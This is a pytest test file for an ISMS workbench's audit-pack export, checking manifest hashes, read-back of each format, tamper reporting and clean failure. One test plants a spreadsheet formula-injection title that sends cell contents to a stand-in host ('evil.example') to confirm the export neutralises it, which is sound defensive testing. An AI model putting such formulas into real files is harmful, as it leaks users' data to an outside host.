"""The audit pack: contents against the manifest, links, read-back of every format, verify
result, the audit log entry, and that a cancelled or failed pack leaves nothing behind."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tempfile
import zipfile
import zlib
from pathlib import Path

import docx
import icalendar
import openpyxl
import pypdf
import pytest
from sqlmodel import col, select

from tests.helpers.approvals import POLICY_TEXT, tamper
from tests.helpers.packs import (
    PACK_TIME,
    PROCEDURE_TEXT,
    SOA_TEXT,
    Engagement,
    check_manifest,
    engagement,
    links,
    manifest,
)
from tests.helpers.readers import Page, docx_text, normalise, title_then_body, version_text
from tests.helpers.tamper import worst_control
from workbench import __version__
from workbench.models import AuditLogEntry
from workbench.services.exports import audit_pack, document_export, register_export
from workbench.services.exports.audit_pack import PackCancelled, PackError
from workbench.services.planner import recurrence, schedule
from workbench.services.register import listing
from workbench.services.register.listing import COLUMN_TITLES, Column, RegisterFilter

PUBLISHED = {
    "documents/001-Access-Control-Policy-v1.pdf",
    "documents/001-Access-Control-Policy-v1.docx",
    "documents/002-Statement-of-Applicability-v1.pdf",
    "documents/002-Statement-of-Applicability-v1.docx",
    "statement-of-applicability/002-Statement-of-Applicability-v1.pdf",
    "statement-of-applicability/002-Statement-of-Applicability-v1.html",
}
OTHERS = {"register.xlsx", "planner.ics", "planner.html", "audit-trail.csv", "index.html",
          "dashboard/readiness.svg", "dashboard/readiness.json"}  # fmt: skip
DRAFTS = {"drafts/DRAFT-003-Backup-Procedure-v1.pdf", "drafts/DRAFT-003-Backup-Procedure-v1.docx"}


@pytest.fixture
def acme(workspace, tmp_path: Path) -> Engagement:
    return engagement(workspace, tmp_path)


def pack(workspace, target: Path, **options) -> audit_pack.PackResult:
    return audit_pack.build_pack(workspace, target, actor="Mara", now=PACK_TIME, **options)


def pdf_text(data: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(data))
    return normalise(" ".join(page.extract_text() for page in reader.pages))


def html_text(data: bytes, part: str = "main") -> str:
    page = Page()
    page.feed(data.decode("utf-8"))
    return page.text(part)


def test_every_file_is_in_the_manifest_with_its_hash(workspace, acme, tmp_path: Path) -> None:
    target = tmp_path / "out" / "acme-audit.zip"
    result = pack(workspace, target)
    assert result.target == target and (result.documents, result.drafts) == (2, 0)
    with zipfile.ZipFile(target) as archive:
        data = check_manifest(archive)
        assert set(archive.namelist()) == PUBLISHED | OTHERS | {"manifest.json"}
        manifest_bytes = archive.read("manifest.json")
    assert data["workbench_version"] == __version__
    assert data["workspace"] == workspace.display_name
    assert data["workspace"] == ("client.grcw" if workspace.is_sqlite else workspace.url)
    assert data["organisation"] == "Acme Logistics GmbH"
    assert data["created_at"] == "2026-11-30T09:30:00Z"
    assert data["created_by"] == "Mara" and data["include_drafts"] is False
    assert data["verify"]["ok"] is True and data["verify"]["problems"] == []
    assert result.manifest_sha256 == hashlib.sha256(manifest_bytes).hexdigest()
    assert not list(target.parent.glob("*.partial"))
    # one entry in the audit log, naming the manifest's hash
    with workspace.read() as session:
        entries = list(
            session.exec(select(AuditLogEntry).where(AuditLogEntry.action == "pack.export"))
        )
    assert len(entries) == 1
    summary = json.loads(entries[0].summary)
    assert summary["manifest_sha256"] == result.manifest_sha256
    assert summary["file"] == "acme-audit.zip" and summary["verify_ok"] is True


def test_index_links_every_file(workspace, acme, tmp_path: Path) -> None:
    target = tmp_path / "pack.zip"
    pack(workspace, target, include_drafts=True)
    with zipfile.ZipFile(target) as archive:
        names = set(archive.namelist())
        index = archive.read("index.html").decode("utf-8")
    hrefs = links(index)
    assert set(hrefs) <= names
    assert set(hrefs) == names - {"index.html"}
    text = html_text(index.encode(), "all")
    assert "Audit pack: Acme Logistics GmbH" in text
    assert "Verified at export time: verified" in text
    assert "DRAFT: Backup Procedure" in text
    assert "Old Visitor Log" not in text  # retired


def test_documents_read_back(workspace, acme, tmp_path: Path) -> None:
    target = tmp_path / "pack.zip"
    pack(workspace, target)
    with zipfile.ZipFile(target) as archive:
        policy_pdf = pdf_text(archive.read("documents/001-Access-Control-Policy-v1.pdf"))
        policy_docx = archive.read("documents/001-Access-Control-Policy-v1.docx")
        soa = "statement-of-applicability/002-Statement-of-Applicability-v1"
        soa_html = archive.read(f"{soa}.html")
        soa_pdf = pdf_text(archive.read(f"{soa}.pdf"))
    # the published version, not the newer draft
    assert title_then_body(POLICY_TEXT, policy_pdf)
    assert "Access Control Policy · version 1 · published" in policy_pdf
    assert "Document approval" in policy_pdf and "Page 1 of 1" in policy_pdf
    scratch = tmp_path / "policy.docx"
    scratch.write_bytes(policy_docx)
    assert title_then_body(POLICY_TEXT, docx_text(scratch))
    assert docx.Document(str(scratch)).core_properties.version == "1"
    assert html_text(soa_html) == version_text(SOA_TEXT)
    assert "Document approval" in html_text(soa_html, "section")
    assert title_then_body(SOA_TEXT, soa_pdf)


def test_register_planner_and_audit_trail(workspace, acme, tmp_path: Path) -> None:
    target = tmp_path / "pack.zip"
    pack(workspace, target)
    with zipfile.ZipFile(target) as archive:
        book = openpyxl.load_workbook(io.BytesIO(archive.read("register.xlsx")))
        calendar = icalendar.Calendar.from_ical(archive.read("planner.ics"))
        table = archive.read("planner.html").decode("utf-8")
        trail = list(csv.reader(io.StringIO(archive.read("audit-trail.csv").decode("utf-8"))))
    rows = listing.export_rows(workspace, RegisterFilter())
    register = register_export.register_table(workspace, RegisterFilter(), zone_name="UTC")
    sheet = book["Register"]
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][: len(Column)] == [
        *(COLUMN_TITLES[column] for column in Column if column is not Column.UPDATED),
        f"{COLUMN_TITLES[Column.UPDATED]} ({recurrence.local_zone_name() or 'local time'})",
    ][: len(Column) - 1] + [values[0][len(Column) - 1]]
    assert values[0][len(Column) :] == ["Signature", "Placeholders"]
    assert [row[0] for row in values[1:]] == [row.id for row in rows]  # ids are numbers
    assert [row[1] for row in values[1:]] == [row[1] for row in register.rows]
    assert any(row[-2].endswith(": valid (1 signature verified)") for row in values[1:])
    assert len(rows) == 4  # the retired artifact stays in the register
    assert book.properties.creator == "Mara"

    summaries = sorted(str(event["SUMMARY"]) for event in calendar.walk("VEVENT"))
    assert summaries == [
        "Internal audit: access control",
        "Review due: Access Control Policy",
        "Review due: Backup Procedure",
        "Review due: Statement of Applicability",
    ]
    assert calendar["X-WR-CALNAME"] == "ISMS audits and reviews"

    zone = recurrence.local_zone()
    job = audit_pack.PackJob(workspace, tmp_path / "x.zip", actor="Mara", now=PACK_TIME)
    first, last = job.planner_range()
    # the earliest review due date to three years past the start of the yearly audit series
    assert (first.isoformat(), last.isoformat()) == ("2027-01-10", "2030-03-10")
    found = schedule.occurrences(workspace, first, last, zone=zone)
    assert table.count("<td class='nowrap'>") == 2 * len(found)
    assert table.count("Internal audit: access control") == 4  # 2027 to 2030
    assert "Hamburg" in table

    with workspace.read() as session:
        logged = session.exec(select(AuditLogEntry).order_by(col(AuditLogEntry.id))).all()
    assert trail[0][0] == "id"
    assert [row[3] for row in trail[1:]] == [entry.action for entry in logged[:-1]]
    assert logged[-1].action == "pack.export"  # written after the trail was taken


def test_drafts_are_marked(workspace, acme, tmp_path: Path) -> None:
    result = pack(workspace, tmp_path / "pack.zip", include_drafts=True)
    assert (result.documents, result.drafts) == (2, 1)
    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
        check_manifest(archive)
        assert set(archive.namelist()) == PUBLISHED | OTHERS | DRAFTS | {"manifest.json"}
        draft = pdf_text(archive.read("drafts/DRAFT-003-Backup-Procedure-v1.pdf"))
        assert manifest(archive)["include_drafts"] is True
    assert "DRAFT: this version has not been approved." in draft
    assert title_then_body(PROCEDURE_TEXT, draft)
    assert "Document approval" not in draft


def test_tampering_shows_in_the_manifest(workspace, acme, tmp_path: Path) -> None:
    forged = "# Access Control Policy\n\nEveryone may access everything.\n"
    tamper(workspace, "UPDATE version SET content_z = ? WHERE artifact_id = ? AND number = 1",
           zlib.compress(forged.encode()), acme.policy)  # fmt: skip
    result = pack(workspace, tmp_path / "pack.zip")
    assert not result.report.ok
    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
        data = check_manifest(archive)
        index = html_text(archive.read("index.html"), "all")
        policy = pdf_text(archive.read("documents/001-Access-Control-Policy-v1.pdf"))
    assert data["verify"]["ok"] is False
    problems = data["verify"]["problems"]
    assert "artifact 1 'Access Control Policy' version 1: its content was changed" in problems
    assert any("signature" in problem for problem in problems)
    assert "Verification found problems at export time" in index
    # the pack shows what the workspace holds, and that its signatures no longer verify
    assert "Everyone may access everything." in policy and "INVALID" in policy


def test_cancelling_leaves_nothing(workspace, acme, tmp_path: Path, monkeypatch) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    out = tmp_path / "out"
    out.mkdir()
    (out / "pack.zip").write_bytes(b"the previous pack")
    seen: list[tuple[int, int, str]] = []

    def progress(done: int, total: int, label: str) -> bool:
        seen.append((done, total, label))
        return done < 3

    with pytest.raises(PackCancelled, match="cancelled; nothing was written"):
        pack(workspace, out / "pack.zip", progress=progress)
    assert [s[0] for s in seen] == [0, 1, 2, 3]
    assert seen[0][2] == "Checking hashes, chains and signatures"
    assert seen[1][2] == "Access Control Policy, version 1 (PDF and Word)"
    # verify, 3 documents, SoA, SoA sheet, dashboard, register, planner, trail, index
    assert {s[1] for s in seen} == {10}
    assert sorted(p.name for p in out.iterdir()) == ["pack.zip"]
    assert (out / "pack.zip").read_bytes() == b"the previous pack"
    assert list(scratch.iterdir()) == []
    with workspace.read() as session:
        assert not session.exec(
            select(AuditLogEntry).where(AuditLogEntry.action == "pack.export")
        ).all()


def test_a_failing_step_leaves_nothing(workspace, acme, tmp_path: Path, monkeypatch) -> None:
    calls: list[Path] = []
    write_pdf = document_export.write_pdf

    def broken_pdf(document, target: Path) -> None:
        calls.append(target)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        write_pdf(document, target)

    monkeypatch.setattr(document_export, "write_pdf", broken_pdf)
    with pytest.raises(PackError, match="cannot write the audit pack: No space left on device"):
        audit_pack.build_pack(workspace, tmp_path / "out" / "pack.zip", actor="Mara")
    assert list((tmp_path / "out").iterdir()) == []


def test_bad_targets(workspace, acme, tmp_path: Path) -> None:
    with pytest.raises(PackError, match="is a folder; name the zip file to write"):
        pack(workspace, tmp_path)
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(PackError, match="is not a folder"):
        pack(workspace, blocker / "pack.zip")


def test_progress_counts_every_step(workspace, acme, tmp_path: Path) -> None:
    seen: list[tuple[int, int, str]] = []
    pack(workspace, tmp_path / "p.zip", progress=lambda d, t, label: not seen.append((d, t, label)))
    assert [s[0] for s in seen] == list(range(11))
    assert seen[-1] == (10, 10, "Done")
    assert [label for *_, label in seen[4:10]] == [
        "Register (Excel)", "Statement of Applicability (Excel)", "Readiness dashboard",
        "Planner (calendar and table)", "Audit trail (CSV)", "Index and manifest",
    ]  # fmt: skip


def test_hostile_titles_stay_text_in_the_pack(workspace, acme, tmp_path: Path) -> None:
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    tamper(workspace, "UPDATE artifact SET title = ?, owner = ? WHERE id = ?", title,
           "@SUM(1+1)", acme.procedure)  # fmt: skip
    pack(workspace, tmp_path / "pack.zip")
    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
        book = openpyxl.load_workbook(io.BytesIO(archive.read("register.xlsx")))
        trail = list(csv.reader(io.StringIO(archive.read("audit-trail.csv").decode("utf-8"))))
    sheet = book["Register"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == acme.procedure)
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (title, "s", True)
    assert (row[4].value, row[4].data_type) == ("@SUM(1+1)", "s")
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
    assert all(not field.startswith(("=", "+", "-", "@")) for r in trail for field in r)


def test_control_characters_in_a_title_do_not_break_the_pack(
    workspace, acme, tmp_path: Path
) -> None:
    tamper(workspace, "UPDATE artifact SET title = ? WHERE id = ?",
           f"Access{worst_control(workspace)}Control\x1b Policy\x07", acme.policy)  # fmt: skip
    result = pack(workspace, tmp_path / "pack.zip", include_drafts=True)
    assert result.documents == 2
    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
        check_manifest(archive)
        names = archive.namelist()
        book = openpyxl.load_workbook(io.BytesIO(archive.read("register.xlsx")))
        (word,) = [n for n in names if n.startswith("documents/001-") and n.endswith(".docx")]
        (pdf,) = [n for n in names if n.startswith("documents/001-") and n.endswith(".pdf")]
        scratch = tmp_path / "policy.docx"
        scratch.write_bytes(archive.read(word))
        pdf_bytes = archive.read(pdf)
    assert book["Register"]["B2"].value == "Access\ufffdControl\ufffd Policy\ufffd"
    assert (
        docx.Document(str(scratch)).core_properties.title
        == "Access\ufffdControl\ufffd Policy\ufffd"
    )
    assert "Access\ufffdControl\ufffd Policy" in pdf_text(pdf_bytes)
